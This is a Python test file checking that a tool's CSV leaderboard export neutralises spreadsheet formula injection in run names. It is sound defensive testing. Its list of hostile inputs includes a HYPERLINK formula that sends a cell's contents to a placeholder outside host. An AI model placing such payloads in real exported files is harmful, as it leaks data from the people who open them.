"""``compare --format csv`` writes run names and subsets as text a spreadsheet never runs: the
rule every CSV file of the web app follows too, defined once in evaluation/."""

import csv
import io

from evaluation import spreadsheet_cells
from evaluation.compare import PairLabel, RunOutcomes, Settings, build_leaderboard
from evaluation.compare_formats import as_csv
from prb_annotate.formats import spreadsheets

HOSTILE = ['=HYPERLINK("http://example.org/?x="&A1,"x")', "@SUM(A1:A9)", "+1+1", "-2+3", "'x"]


def test_run_names_are_never_formulas() -> None:
    labels = {f"p{i}": PairLabel("A", "validated") for i in range(4)}
    runs = [
        RunOutcomes(name, {f"p{i}": "correct" if i % 2 else "wrong" for i in range(4)})
        for name in HOSTILE
    ]
    text = as_csv(build_leaderboard(runs, labels, Settings(policy="as-wrong")))
    rows = list(csv.reader(io.StringIO(text)))
    models = {row[4] for row in rows[1:]}
    assert models == {"'" + name for name in HOSTILE}
    for row in rows:
        for cell in row:
            starts_formula = cell.startswith(spreadsheet_cells.FORMULA_STARTS)
            assert not starts_formula or spreadsheet_cells.PLAIN_NUMBER.fullmatch(cell), cell
    # Figures stay numbers a spreadsheet reads as numbers.
    accuracy = rows[0].index("accuracy")
    assert all(float(row[accuracy]) == 0.5 for row in rows[1:])


def test_the_app_and_evaluation_neutralise_with_one_rule() -> None:
    """One definition: the web app's CSV writers take evaluation's rule, not a copy of it."""
    assert spreadsheets.neutralised_cell is spreadsheet_cells.neutralised_cell
    assert spreadsheets.FORMULA_STARTS is spreadsheet_cells.FORMULA_STARTS
